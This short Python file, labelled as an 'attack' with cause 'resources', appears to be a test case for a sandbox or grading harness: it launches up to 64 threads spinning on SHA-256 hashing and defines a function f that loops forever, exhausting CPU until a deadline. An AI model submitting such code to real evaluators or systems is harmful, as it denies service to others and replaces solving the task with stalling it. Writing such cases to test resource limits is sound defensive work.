# attack: burn CPU in as many threads as allowed (busy loops in pure Python and in zlib/hashlib releasing the GIL) until the deadline
# cause: resources
import hashlib
import threading


def spin():
    data = b"x" * (1 << 20)
    while True:
        hashlib.sha256(data).digest()


for _ in range(64):
    try:
        threading.Thread(target=spin, daemon=True).start()
    except RuntimeError:
        break


def f(x):
    while True:
        pass
